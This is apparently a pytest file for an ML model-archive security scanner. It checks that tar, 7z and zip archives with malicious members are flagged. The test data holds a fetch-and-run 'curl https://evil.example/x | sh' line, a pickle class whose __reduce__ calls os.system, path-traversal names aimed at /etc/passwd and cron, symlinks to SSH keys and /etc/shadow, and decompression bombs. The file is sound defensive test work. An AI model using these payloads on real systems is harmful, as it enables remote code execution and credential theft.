from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

import pytest

from mlward.files.access import Limits
from mlward.findings import Severity
from mlward.scanners import archive
from mlward.scanners.archive import link_escapes, path_problem
from tests.scanners._helpers import blocking, rules, scan_one

py7zr = pytest.importorskip("py7zr")

EVIL_PY = b"import os\nos.system('curl https://evil.example/x | sh')\n"
GOOD_PY = b"import torch\n\ndef forward(x):\n    return x * 2\n"
SAFETENSORS = b"\x08\x00\x00\x00\x00\x00\x00\x00{}      "


def _tar(path: Path, members: dict[str, bytes], mode: str = "w", links: dict[str, str] | None = None,
         hard: bool = False) -> Path:
    if mode == "w:zst":
        raw = io.BytesIO()
        _fill(tarfile.open(fileobj=raw, mode="w"), members, links, hard)  # noqa: SIM115 - _fill closes it
        import zstandard

        path.write_bytes(zstandard.ZstdCompressor().compress(raw.getvalue()))
        return path
    _fill(tarfile.open(path, mode), members, links, hard)  # noqa: SIM115 - _fill closes it
    return path


def _fill(handle: tarfile.TarFile, members: dict[str, bytes], links: dict[str, str] | None,
          hard: bool) -> None:
    with handle:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            handle.addfile(info, io.BytesIO(data))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.LNKTYPE if hard else tarfile.SYMTYPE
            info.linkname = target
            handle.addfile(info)


def _7z(path: Path, members: dict[str, bytes]) -> Path:
    with py7zr.SevenZipFile(path, "w") as handle:
        for name, data in members.items():
            handle.writestr(data, name)
    return path


CASES = [("w", "m.tar"), ("w:gz", "m.tar.gz"), ("w:bz2", "m.tar.bz2"), ("w:xz", "m.tar.xz"),
         ("w:zst", "m.tar.zst")]


@pytest.mark.parametrize(("mode", "name"), CASES)
def test_clean_tar_is_clean(tmp_path: Path, mode: str, name: str) -> None:
    path = _tar(tmp_path / name, {"repo/modeling.py": GOOD_PY, "repo/model.safetensors": SAFETENSORS})
    assert blocking(scan_one(path)) == []


@pytest.mark.parametrize(("mode", "name"), CASES)
def test_code_inside_tar_is_found_by_member(tmp_path: Path, mode: str, name: str) -> None:
    path = _tar(tmp_path / name, {"repo/README.md": b"hi", "repo/modeling.py": EVIL_PY}, mode)
    (finding,) = blocking(scan_one(path))
    assert finding.rule == "python.dangerous-call"
    assert finding.severity == Severity.CRITICAL
    assert finding.location.member == "repo/modeling.py"
    assert finding.path.endswith(name)


def test_clean_and_malicious_7z(tmp_path: Path) -> None:
    assert blocking(scan_one(_7z(tmp_path / "ok.7z", {"a/modeling.py": GOOD_PY}))) == []
    (finding,) = blocking(scan_one(_7z(tmp_path / "bad.7z", {"a/modeling.py": EVIL_PY, "b.txt": b"x"})))
    assert (finding.rule, finding.location.member) == ("python.dangerous-call", "a/modeling.py")


def test_7z_scan_writes_nothing_to_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = _7z(tmp_path / "bad.7z", {"x/modeling.py": EVIL_PY})
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)
    scan_one(path)
    assert list(work.iterdir()) == []


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/passwd", "C:\\Windows\\x.dll", "a/../../b"])
def test_traversal_names_are_high(tmp_path: Path, name: str) -> None:
    found = scan_one(_tar(tmp_path / "t.tar", {name: b"x"}))
    assert rules(found, Severity.HIGH) == {"archive.path-traversal"}


def test_dotted_but_safe_names_are_clean(tmp_path: Path) -> None:
    path = _tar(tmp_path / "t.tar", {"a/..b/c": b"x", "./model..bin": b"y", "..hidden": b"z"})
    assert blocking(scan_one(path)) == []


def test_escaping_links_are_high_and_inner_links_are_notes(tmp_path: Path) -> None:
    out = scan_one(_tar(tmp_path / "o.tar", {}, links={"model/weights.bin": "/home/user/.ssh/id_rsa",
                                                       "model/up": "../../x"}))
    assert [f.severity for f in out] == [Severity.HIGH, Severity.HIGH]
    inner = scan_one(_tar(tmp_path / "i.tar", {"blobs/abc": b"x"}, links={"snap/model.bin": "../blobs/abc"}))
    assert [(f.rule, f.severity) for f in inner] == [("archive.link-member", Severity.INFO)]
    hard = scan_one(_tar(tmp_path / "h.tar", {}, links={"x": "../etc/shadow"}, hard=True))
    assert rules(hard, Severity.HIGH) == {"archive.link-member"}


def test_link_resolution_rules() -> None:
    assert link_escapes("a/b/link", "../../../x")
    assert not link_escapes("a/b/link", "../c")
    assert link_escapes("a/link", "/abs")
    assert not link_escapes("a/b", "a/c", hard=True)
    assert path_problem("a/b") is None
    assert path_problem("../a") == "'..' component"


def test_device_member_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "d.tar"
    with tarfile.open(path, "w") as handle:
        info = tarfile.TarInfo("dev/mem")
        info.type = tarfile.CHRTYPE
        handle.addfile(info)
    assert rules(scan_one(path)) == {"archive.special-member"}


def test_nested_archives_are_scanned_and_depth_is_bounded(tmp_path: Path) -> None:
    inner = _7z(tmp_path / "inner.7z", {"code/modeling.py": EVIL_PY}).read_bytes()
    middle = _tar(tmp_path / "middle.tar.gz", {"inner.7z": inner}, "w:gz").read_bytes()
    outer = _tar(tmp_path / "outer.tar", {"middle.tar.gz": middle})
    (finding,) = blocking(scan_one(outer))
    assert finding.location.member == "middle.tar.gz!inner.7z!code/modeling.py"
    shallow = scan_one(outer, Limits(max_nesting=1))
    assert rules(shallow) == {"archive.nesting-too-deep"}


def test_size_limit_stops_a_bomb(tmp_path: Path) -> None:
    path = _tar(tmp_path / "bomb.tar.gz", {"zeros.bin": b"\0" * (8 << 20)}, "w:gz")
    assert path.stat().st_size < 64 << 10
    found = scan_one(path, Limits(max_decompressed=1 << 20))
    assert rules(found, Severity.HIGH) == {"archive.bomb"}
    assert blocking(scan_one(path)) == []


def test_ratio_limit_stops_a_bomb(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "BOMB_FLOOR", 1 << 20)
    path = _tar(tmp_path / "bomb.tar.xz", {"zeros.bin": b"\0" * (4 << 20)}, "w:xz")
    found = scan_one(path, Limits(max_ratio=100))
    (bomb,) = [f for f in found if f.rule == "archive.bomb"]
    assert "ratio" in bomb.message


def test_7z_declared_size_bomb_is_refused_before_reading(tmp_path: Path) -> None:
    path = _7z(tmp_path / "b.7z", {"zeros.bin": b"\0" * (4 << 20)})
    assert rules(scan_one(path, Limits(max_decompressed=1 << 20)), Severity.HIGH) == {"archive.bomb"}


def test_oversized_pax_header_is_refused(tmp_path: Path) -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as handle:
        info = tarfile.TarInfo("x")
        info.pax_headers = {"comment": "y" * (2 << 20)}
        handle.addfile(info, io.BytesIO(b""))
    path = tmp_path / "pax.tar"
    path.write_bytes(raw.getvalue())
    assert rules(scan_one(path)) == {"archive.unreadable"}


@pytest.mark.parametrize("cut", [100, 700, 1500])
def test_truncated_tar_is_not_clean(tmp_path: Path, cut: int) -> None:
    path = _tar(tmp_path / "t.tar", {"a.py": GOOD_PY * 20, "b.py": EVIL_PY})
    data = path.read_bytes()[:cut]
    path.write_bytes(data)
    assert blocking(scan_one(path))


def test_corrupt_7z_is_not_clean(tmp_path: Path) -> None:
    path = _7z(tmp_path / "c.7z", {"a.py": GOOD_PY})
    data = bytearray(path.read_bytes())
    data[40:60] = os.urandom(20)
    path.write_bytes(bytes(data))
    assert rules(scan_one(path)) == {"archive.unreadable"}


def test_member_too_large_for_memory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archive, "MEMBER_IN_MEMORY", 1 << 16)
    path = _tar(tmp_path / "t.tar", {"big.py": GOOD_PY + b"#" * (1 << 17)})
    (finding,) = scan_one(path)
    assert (finding.rule, finding.severity) == ("archive.member-too-large", Severity.HIGH)


class _Boom:
    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, ("echo owned",))


def _torch_zip(tmp_path: Path, payload: object) -> bytes:
    torch = pytest.importorskip("torch")
    path = tmp_path / "ckpt.pt"
    torch.save(payload, path)
    return path.read_bytes()


def test_pickles_in_tar_and_7z_reach_the_pickle_scanner(tmp_path: Path) -> None:
    import pickle

    evil = pickle.dumps(_Boom())
    for path in (_tar(tmp_path / "a.tar.gz", {"model/optimizer.pkl": evil}, "w:gz"),
                 _7z(tmp_path / "a.7z", {"model/optimizer.pkl": evil})):
        worst = max(scan_one(path), key=lambda f: f.severity)
        assert worst.severity == Severity.CRITICAL
        assert worst.location.member is not None
        assert worst.location.member.startswith("model/optimizer.pkl")


def test_nullifai_shape_torch_zip_in_7z(tmp_path: Path) -> None:
    """February 2025: PyTorch models packed in 7z so that hub scanning skipped them."""
    torch = pytest.importorskip("torch")
    evil = _7z(tmp_path / "evil.7z", {"pytorch_model.bin": _torch_zip(tmp_path, {"w": _Boom()})})
    worst = max(scan_one(evil), key=lambda f: f.severity)
    assert worst.severity == Severity.CRITICAL
    assert str(worst.location.member).startswith("pytorch_model.bin!")
    clean = _7z(tmp_path / "ok.7z", {"pytorch_model.bin": _torch_zip(tmp_path, {"w": torch.zeros(3)})})
    assert blocking(scan_one(clean)) == []


def test_zip_extras_judges_non_pickle_members(tmp_path: Path) -> None:
    import zipfile

    from mlward.scanners.archive import zip_extras
    from mlward.scanners.base import ScanContext

    path = tmp_path / "bundle.zip"
    with zipfile.ZipFile(path, "w") as handle:
        handle.writestr("repo/modeling.py", EVIL_PY)
        handle.writestr("repo/ok.py", GOOD_PY)
        handle.writestr("repo/inner.tar", _tar(tmp_path / "i.tar", {"x/evil.py": EVIL_PY}).read_bytes())
        handle.writestr("repo/data.pkl", b"\x80\x04K\x01.")
    with zipfile.ZipFile(path) as handle:
        def read(name: str, limit: int) -> bytes:
            with handle.open(name) as member:
                return member.read(limit)

        found = list(zip_extras(handle.namelist(), read, ScanContext(str(path))))
    members = sorted(f.location.member for f in blocking(found))
    assert members == ["repo/inner.tar!x/evil.py", "repo/modeling.py"]


@pytest.mark.parametrize(("mode", "name"), CASES[1:])
def test_corrupt_compressed_tar_is_a_finding_not_a_crash(tmp_path: Path, mode: str, name: str) -> None:
    """Found by the fuzz harness: zlib.error / LZMAError are not OSError and used to escape."""
    path = _tar(tmp_path / name, {"a.py": os.urandom(4000), "b.py": EVIL_PY}, mode)
    data = bytearray(path.read_bytes())
    for i in range(len(data) // 3, len(data) // 3 + 24):
        data[i] ^= 0xA5
    path.write_bytes(bytes(data))
    assert blocking(scan_one(path))


def test_zip_extras_prefixes_nested_members_and_reports_unreadable_ones(tmp_path: Path) -> None:
    from mlward.scanners.archive import zip_extras
    from mlward.scanners.base import ScanContext

    def read(name: str, limit: int) -> bytes:
        if name == "broken.py":
            raise ValueError("bad deflate data")
        return EVIL_PY[:limit]

    ctx = ScanContext("outer.zip")
    found = list(zip_extras(["evil.py", "broken.py"], read, ctx, member_prefix="inner.zip"))
    assert sorted((f.rule, f.location.member) for f in found) == [
        ("archive.unreadable", "inner.zip!broken.py"), ("python.dangerous-call", "inner.zip!evil.py")]


def test_zip_extras_ignores_raw_tensor_storage(tmp_path: Path) -> None:
    from mlward.scanners.archive import zip_extras
    from mlward.scanners.base import ScanContext

    gzip_lookalike = b"\x1f\x8b\x08" + os.urandom(64)  # float bytes that happen to start like gzip
    members = {"archive/data.pkl": b"\x80\x02}q\x00.", "archive/data/0": gzip_lookalike,
               "m/data/weights/weight_0": gzip_lookalike}
    found = list(zip_extras(list(members), lambda n, limit: members[n][:limit], ScanContext("m.pt")))
    assert found == []


def test_large_pickle_and_gguf_members_of_a_tar_are_streamed(tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    import pickle

    monkeypatch.setattr(archive, "MEMBER_IN_MEMORY", 1 << 12)
    big_evil = pickle.dumps([b"x" * 20_000, _Boom()])
    big_clean = pickle.dumps({"lr": 0.1, "pad": "y" * 20_000})
    found = scan_one(_tar(tmp_path / "t.tar.gz", {"a/evil.pkl": big_evil, "a/ok.pkl": big_clean}, "w:gz"))
    assert {f.rule for f in found if f.rule.startswith("archive.")} == set()
    worst = max(found, key=lambda f: f.severity)
    assert worst.severity == Severity.CRITICAL
    assert worst.location.member == "a/evil.pkl"
    assert not [f for f in blocking(found) if f.location.member == "a/ok.pkl"]


def test_large_gguf_member_of_a_tar_is_streamed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("gguf")
    from tests.scanners.test_gguf import POC, _model

    monkeypatch.setattr(archive, "MEMBER_IN_MEMORY", 1 << 10)
    data = _model(tmp_path / "m.gguf", POC).read_bytes()
    (finding,) = scan_one(_tar(tmp_path / "t.tar", {"blobs/model.gguf": data}))
    assert (finding.rule, finding.severity) == ("template.sandbox-escape", Severity.CRITICAL)
    assert finding.location.member == "blobs/model.gguf"


def test_7z_symlink_out_of_the_archive_is_high(tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    (src / "model.bin").write_bytes(b"weights")
    os.symlink("/etc/passwd", src / "config.json")
    os.symlink("model.bin", src / "alias.bin")
    path = tmp_path / "l.7z"
    with py7zr.SevenZipFile(path, "w", dereference=False) as handle:
        handle.writeall(src, "m")
    found = scan_one(path)
    assert [(f.rule, f.severity, f.location.member) for f in found if f.severity >= Severity.MEDIUM] == [
        ("archive.link-member", Severity.HIGH, "m/config.json")]
    assert any(f.severity == Severity.INFO and f.location.member == "m/alias.bin" for f in found)
